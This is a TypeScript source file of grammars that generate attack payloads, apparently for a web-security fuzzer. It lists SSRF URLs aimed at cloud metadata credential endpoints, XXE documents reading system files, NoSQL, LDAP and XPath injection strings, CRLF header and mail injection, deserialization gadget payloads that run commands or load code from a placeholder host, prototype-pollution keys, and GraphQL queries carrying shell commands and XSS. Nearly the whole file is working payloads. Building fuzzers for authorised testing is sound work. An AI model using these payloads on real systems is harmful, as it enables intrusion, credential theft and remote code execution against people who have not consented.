// Requests that the server is made to send, documents that reach out, and the smaller languages: queries of document stores and
// directories, mail, header lines, objects in text, prototypes, GraphQL.
import type { Grammar } from '../grammar.ts';

export const ssrf: Grammar = {
  start: ['http://169.254.169.254/latest/meta-data/§m§', 'http://metadata.google.internal/computeMetadata/v1/§m§', 'http://100.100.100.200/latest/meta-data/', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01', 'http://§lo§§port§/§p§', 'https://§lo§§port§/§p§', 'http://user@§lo§§port§/', 'http://example.com@§lo§/', 'http://§lo§#@example.com/', 'gopher://§lo§:6379/_INFO', 'gopher://§lo§:25/_HELO%20x', 'dict://§lo§:6379/info', 'ldap://§lo§:389/%0astats', 'tftp://§host§:69/x', 'sftp://§host§:22/', 'file:///etc/passwd', 'file://§lo§/etc/hosts', 'http://10.0.0.§d§§port§/admin', 'http://192.168.§d§.1/', 'http://172.16.0.§d§/', 'http://[fd00:ec2::254]/latest/meta-data/', 'http://0x7f000001/', 'http://2130706433/', 'http://017700000001/', 'http://0177.0.0.1/', 'http://127.1/', 'http://0/', 'http://[::]:80/', 'http://[0:0:0:0:0:ffff:127.0.0.1]/', 'http://127.0.0.1.nip.io/', 'http://169.254.169.254.xip.io/', 'http://instance-data/latest/', 'http://①②⑦.⓪.⓪.①/', 'http://spoofed.burpcollaborator.net/', 'http://localtest.me:8080/', 'http://kubernetes.default.svc/', 'http://rancher-metadata/', 'http://consul:8500/v1/kv', 'http://169.254.170.2/v2/credentials/', 'http://192.0.0.192/latest/', 'jar:http://§lo§!/', 'http://0xA9FEA9FE/', 'http://2852039166/', 'http:////127.0.0.1/', 'http:\\\\§lo§\\', '//§lo§/admin', 'http://abc.oast.fun/', 'http://x.interact.sh/'],
  lo: ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '127.127.127.127', 'LOCALHOST', '127.0.0.1', '[::ffff:7f00:1]'],
  port: ['', ':22', ':80', ':8080', ':6379', ':9200', ':2375', ':3306', ':5000'],
  p: ['', 'admin', 'server-status', 'actuator/env', '_cat/indices', 'containers/json', 'console'],
  m: ['', 'iam/security-credentials/', 'hostname', 'instance/service-accounts/default/token', 'user-data'],
};

/** Whole XML documents. */
export const xxe: Grammar = {
  start: ['§x§<!DOCTYPE §r§ [<!ENTITY §e§ SYSTEM "§u§">]><§r§>&§e§;</§r§>', '§x§<!DOCTYPE §r§ [<!ENTITY % §e§ SYSTEM "§u§"> %§e§;]><§r§/>', '§x§<!DOCTYPE §r§ SYSTEM "§u§"><§r§>x</§r§>', '§x§<!DOCTYPE §r§ PUBLIC "-//A//B" "§u§"><§r§/>', '§x§<!DOCTYPE §r§ [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><§r§>&c;</§r§>', '§x§<§r§ xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="§u§"/></§r§>', '§x§<!DOCTYPE §r§ [\n<!ELEMENT §r§ ANY >\n<!ENTITY §e§ SYSTEM "§u§" >]>\n<§r§>&§e§;</§r§>', '§x§<!DOCTYPE §r§ [<!ENTITY §e§ PUBLIC "x" "§u§">]><§r§><a>&§e§;</a></§r§>', "§x§<!DOCTYPE §r§ [<!ENTITY % a '<!ENTITY &#x25; b SYSTEM \"§u§\">'>]><§r§/>", '§x§<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'§u§\')"/></xsl:template></xsl:stylesheet>', '§x§<!DOCTYPE svg [<!ENTITY §e§ SYSTEM "§u§">]><svg xmlns="http://www.w3.org/2000/svg"><text>&§e§;</text></svg>', '§x§<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><§r§><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "§u§"> %dtd;]><xxx/>]]></§r§></soap:Body></soap:Envelope>'],
  x: ['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', '', '<?xml version="1.0" encoding="ISO-8859-1"?>\n'],
  r: ['foo', 'root', 'data', 'order', 'user', 'test'],
  e: ['xxe', 'e', 'ent', 'file', 'x', 'sp'],
  u: ['file://§file§', 'http://§host§/x.dtd', 'php://filter/read=convert.base64-encode/resource=index.php', 'expect://id', 'file:///c:/windows/win.ini', 'ftp://§host§/x', 'http://169.254.169.254/latest/', 'jar:file:///x.jar!/y', 'netdoc:§file§', 'gopher://§host§'],
};

export const nosql: Grammar = {
  start: ['{"$§op§":§v§}', '{"username":{"$§op§":§v§},"password":{"$§op§":§v§}}', '{"$where":"§w§"}', '{"$or":[{"a":1},{"b":{"$§op§":§v§}}]}', "';return true;var x='", "' || 1==1//", "' || '1'=='1", "'||this.password||'", "';sleep(5000);'", '$where: §w§', '{"a":{"$regex":"^a.*"}}', '{$§op§: §v§}', '[$§op§]=§n§', 'this.password.match(/^a/)', "' && this.password.match(/.*/)//+%00", '{"$expr":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}', 'db.users.find({})', "db.getCollectionNames()", "true, $where: '1 == 1'", ", $where: '1 == 1'", "1, $where: '1 == 1'", '{ $ne: 1 }', "', $or: [ {}, { 'a':'a", "' } ], $comment:'x'", '{"selector":{"_id":{"$gt":null}}}', 'function(){return(version())}', '||1==1', "'; while(true){};'", '{"$gt":""}', '{"mapReduce":"users","map":"function(){}"}', "{\"$lookup\":{\"from\":\"users\"}}", '|| this.a != this.b'],
  op: ['ne', 'gt', 'gte', 'lt', 'regex', 'exists', 'nin', 'in', 'eq', 'not', 'size', 'type'],
  v: ['""', 'null', '1', '".*"', 'true', '[]', '"^a"', '["admin"]', '{}'],
  w: ['1==1', 'sleep(5000)', "this.a=='x'", 'return true', 'function(){sleep(1000)}', "this.password.length>0"],
};

export const ldap: Grammar = {
  start: ['*)(§a§=*', '*)(§a§=*))(|(§a§=*', 'admin)(&)', '*)(|(&', 'pwd)', '*))%00', '*()|&\'', 'admin*)((|§a§=*)', '§word§)(|(§a§=*)', '*)(objectClass=*', '*(|(objectclass=*))', '(&(§a§=*)(§a§=*))', '§word§))(|(§a§=*', '*)(§a§=*)(&', 'x)(!(&(a=b', '*)§a§=admin)(|(§a§=*', '(|(cn=a*)(sn=*))', '*|(mail=*', ')(cn=))\\x00', 'admin)(!(&(1=0', '%2a%29%28§a§%3d%2a', '*))(|(§a§=x', "' or count(/*)=1 or 'a'='b", "' or '1'='1' or ''='", "'] | //user/*[contains(*,'", "x' or name()='username' or 'x'='y", '//user[position()=1]/child::node()', "' and string-length(name(/*[1]))=1 and '1'='1", "count(/child::node())", "'|//*|'", "') or contains(name,'a"],
  a: ['uid', 'cn', 'userPassword', 'objectClass', 'mail', 'sn', 'password', 'memberOf', 'sAMAccountName'],
};

export const mail: Grammar = {
  start: ['§word§@example.com§nl§§f§: a@§host§', '§word§§nl§§f§:b@§host§', 'x@example.com§nl§.§nl§§c§', '§nl§§c§', 'a@b.example§nl§Subject: §word§§nl§§nl§hello', '§word§ <a@b.example>§nl§Content-Type: text/html§nl§§nl§<b>x</b>', '"§nl§§c§', "'§nl§V100 CAPABILITY§nl§V101 FETCH 4791", 'INBOX"§nl§A1 DELETE "INBOX"§nl§', 'x§nl§MIME-Version: 1.0§nl§', 'a@b.example%0a§f§:c@§host§', 'x%0d%0a§f§:%20c@§host§'],
  nl: ['\r\n', '\n', '%0d%0a', '%0A', '\r'],
  f: ['Cc', 'Bcc', 'BCC', 'To', 'Reply-To', 'From', 'cc'],
  c: ['DATA\r\nfrom: a@b.example', 'RCPT TO:<a@§host§>', 'MAIL FROM:<x@§host§>', 'QUIT', 'A001 LOGIN a b', 'V100 SELECT "INBOX"', 'RSET\r\nHELO §host§', 'UIDL', 'DELE 1', 'EHLO x'],
};

export const header: Grammar = {
  start: ['§word§§nl§Set-Cookie: §word§=1', '§word§§nl§Location: http://§host§/', '§nl§Content-Length: 0§nl§§nl§HTTP/1.1 200 OK§nl§Content-Type: text/html§nl§§nl§<b>x</b>', '/§word§§nl§X-Injected: 1', '§nl§§nl§<script>alert(1)</script>', '§word§嘊嘍Set-Cookie: a=b', '§nl§Host: §host§', 'http://example.com§nl§Set-Cookie: sid=1', '§word§§nl§ Set-Cookie:x', '§nl§HTTP/1.1 200 OK', '§word§%E5%98%8A%E5%98%8DLocation:%20http://§host§', '§nl§Refresh: 0;url=//§host§', '§nl§X-XSS-Protection:0§nl§', '§nl§Access-Control-Allow-Origin: *', '§word§§nl§GET /admin HTTP/1.1§nl§Host: x', '§nl§Transfer-Encoding: chunked'],
  nl: ['\r\n', '\n', '%0d%0a', '%0A', '%0D%0A%20', '%E5%98%8A%E5%98%8D'],
};

export const objects: Grammar = {
  start: ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw', 'rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg', 'rO0ABXNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u', 'aced0005737200116a6176612e7574696c2e48617368536574', 'O:§d§:"§cl§":§d§:{s:§d§:"§word§";s:2:"id";}', 'a:1:{i:0;O:8:"§cl§":0:{}}', 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}', 'O:+8:"§cl§":1:{s:1:"a";i:1;}', 'Tzo4OiJzdGRDbGFzcyI6MTp7czoxOiJhIjtzOjI6ImlkIjt9', 'gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==', 'cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.', 'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://§host§/x","autoCommit":true}', '{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext"}', '["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://§host§/"}]', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}', '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>', '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>', '{"rce":"_$$ND_FUNC$$_function(){return 1}()"}', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://§host§/"]]]]', '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://§host§/x"}', '{"py/object":"__main__.Shell","py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}', '--- !ruby/object:ERB\nsrc: puts 1', 'BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbg==', '/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbQ==', '{"@type":"java.lang.AutoCloseable","@type":"x"}', 'org.apache.commons.collections.Transformer', 'ysoserial.payloads.ObjectPayload', 'phar://x.phar/a'],
  cl: ['stdClass', 'Monolog\\Handler\\SyslogUdpHandler', 'PDO', 'GuzzleHttp\\Psr7\\FnStream', 'Illuminate\\Broadcasting\\PendingBroadcast', 'SplFileObject', 'SoapClient', 'Example'],
};

/** JSON documents, or names of parameters with a value behind `=`. */
export const prototype: Grammar = {
  start: ['{"__proto__":{"§k§":§v§}}', '{"constructor":{"prototype":{"§k§":§v§}}}', '{"a":{"__proto__":{"§k§":§v§}}}', '__proto__[§k§]=§s§', 'constructor[prototype][§k§]=§s§', '__proto__.§k§=§s§', 'constructor.prototype.§k§=§s§', 'a[__proto__][§k§]=§s§', '[{"__proto__":[]}]', 'x[constructor][prototype][§k§]=§s§', '{"__proto__.§k§":§v§}', '{"op":"add","path":"/__proto__/§k§","value":§v§}', '{"a":[{"constructor":{"prototype":{"x":1}}}]}', "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"§k§\":§v§}}"],
  k: ['isAdmin', 'admin', 'shell', 'NODE_OPTIONS', 'polluted', 'toString', 'role', 'outputFunctionName', 'env', 'execArgv', 'argv0', 'length'],
  v: ['true', '1', '"x"', '"--require /proc/self/environ"', '{}', 'null', '["--eval=1"]'],
  s: ['1', 'true', 'x', 'admin'],
};

/** Queries, sent as GraphQL. */
export const graphql: Grammar = {
  start: ['{__schema{types{name fields{name}}}}', 'query IntrospectionQuery{__schema{queryType{name}mutationType{name}types{...FullType}}}fragment FullType on __Type{kind name}', '{__type(name:"User"){fields{name type{name}}}}', '{__schema{directives{name args{name}}}}', 'query{a:__typename b:__typename c:__typename d:__typename e:__typename f:__typename g:__typename h:__typename i:__typename j:__typename k:__typename l:__typename m:__typename n:__typename o:__typename p:__typename q:__typename r:__typename s:__typename t:__typename u:__typename}', '{user(id:"§inj§"){name}}', 'mutation{login(user:"§inj§",pass:"x"){token}}', 'query{search(q:"§inj§"){id}}', '{systemDiagnostics(cmd:"§sh§")}', 'mutation{importPaste(host:"§host§",port:80,path:"/;§sh§",scheme:"http"){result}}', 'query{pastes(filter:"§inj§"){content}}', 'query{a{b{a{b{a{b{a{b{a{b{a{b{a{b{a{b{a{b{a{b{c}}}}}}}}}}}}}}}}}}}}}', 'fragment A on Query{...B} fragment B on Query{...A} query{...A}', 'mutation{l1:login(p:"1"){t} l2:login(p:"2"){t} l3:login(p:"3"){t} l4:login(p:"4"){t} l5:login(p:"5"){t} l6:login(p:"6"){t} l7:login(p:"7"){t} l8:login(p:"8"){t} l9:login(p:"9"){t} l10:login(p:"10"){t} l11:login(p:"11"){t} l12:login(p:"12"){t}}', 'query @a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a@a{x}', 'subscription{__schema{types{name}}}', 'mutation{createUser(name:"§xss§"){id}}'],
  inj: ["' or 1=1 --", "1' union select 1,2 --", "' OR '1'='1", "x' and sleep(5) --", "../../../etc/passwd", "$(id)"],
  sh: ['id', 'cat /etc/passwd', '|| whoami', '; ls -la', 'curl §host§'],
  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>'],
};
